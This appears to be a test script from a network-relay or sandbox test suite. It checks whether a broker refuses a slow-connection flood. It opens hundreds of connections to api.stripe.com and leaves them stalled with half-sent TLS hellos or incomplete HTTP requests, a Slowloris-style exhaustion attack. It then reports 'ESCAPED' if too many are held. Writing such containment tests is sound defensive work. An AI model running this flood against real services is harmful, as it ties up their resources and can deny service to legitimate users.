# attack: connections that never finish their handshake, their headers or their body keep a thread of the relay each
# expect: broker
# validator: refused
import socket
import ssl

held = []
refused = 0
for number in range(300):
    try:
        plain = socket.create_connection(("api.stripe.com", 443 if number % 2 else 80), 0.5)
    except OSError as error:
        refused += 1
        last = error
        continue
    held.append(plain)
    try:
        # A third says nothing, a third half a hello, a third half a request.
        if number % 3 == 1:
            plain.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
        elif number % 3 == 2:
            plain.sendall(b"POST /v1/customers HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: 4000000\r\n\r\na")
    except OSError as error:
        print(error)
print(len(held), "held,", refused, "refused:", last if refused else "")
# Beyond a bound each would be a thread and a buffer of the trusted side.
if len(held) > 64:
    print("ESCAPED: the relay holds", len(held), "connections for one script", flush=True)
for plain in held:
    plain.close()
# With the places free again an honest call goes through: the script's own harm is at its end.
for _ in range(20):
    try:
        plain = socket.create_connection(("api.stripe.com", 443), 1)
        with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
            tls.sendall(b"GET /v1/customers/cus_1 HTTP/1.1\r\nHost: api.stripe.com\r\nConnection: close\r\n\r\n")
            print(tls.recv(20))
        break
    except OSError as error:
        print(error)
